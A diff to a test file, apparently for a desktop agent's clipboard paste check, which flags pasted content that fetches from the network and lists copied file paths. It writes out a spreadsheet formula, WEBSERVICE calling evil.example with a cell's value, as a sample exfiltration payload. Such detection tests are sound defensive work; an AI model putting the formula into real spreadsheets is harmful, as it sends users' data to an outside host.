@@ -75,12 +75,14 @@ test('what would be pasted is looked at, and not told', async () => {
   }
   const target = (keys: string) => desktop.target('keyboard_input', { keys })
   copy('a\t=WEBSERVICE("http://evil.example/"&A1)')
-  expect((await target('Ctrl+v')).pasted).toEqual({ fetches: true })
+  expect((await target('Ctrl+v')).pasted).toEqual({ fetches: true, files: [] })
   expect((await target('a')).pasted).toBeNull()
   copy('secret words')
-  expect((await target('Shift+Insert')).pasted).toEqual({ fetches: false })
+  expect((await target('Shift+Insert')).pasted).toEqual({ fetches: false, files: [] })
   const asked = await target('Ctrl+v')
   expect(JSON.stringify(asked)).not.toContain('secret words')
+  copy('copy\nfile:///home/ada/.bash%20rc\nfile:///home/ada/a.txt')
+  expect((await target('Ctrl+v')).pasted?.files).toEqual(['/home/ada/.bash rc', '/home/ada/a.txt'])
   // An approval is for what was copied then.
   copy('other words')
   expect((await target('Ctrl+v')).fingerprint).not.toBe(asked.fingerprint)
